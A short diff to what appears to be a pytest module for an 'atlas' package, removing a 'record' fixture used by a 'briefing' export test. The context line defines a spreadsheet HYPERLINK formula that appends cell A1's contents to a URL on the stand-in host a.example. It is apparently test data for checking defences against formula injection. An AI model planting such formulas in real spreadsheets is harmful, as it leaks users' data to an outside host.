@@ -16,12 +16,6 @@ FORMULA = '=HYPERLINK("https://a.example/?"&A1,"open")'
 
 
 @pytest.fixture(scope="module")
-def record():
-    """Return the shipped record, placed."""
-    return atlas.open_record("spring-2023").geocode()
-
-
-@pytest.fixture(scope="module")
 def briefing(record, tmp_path_factory):
     """Return the briefing of the shipped record, marked."""
     path = tmp_path_factory.mktemp("saving") / "spring-2023.html"
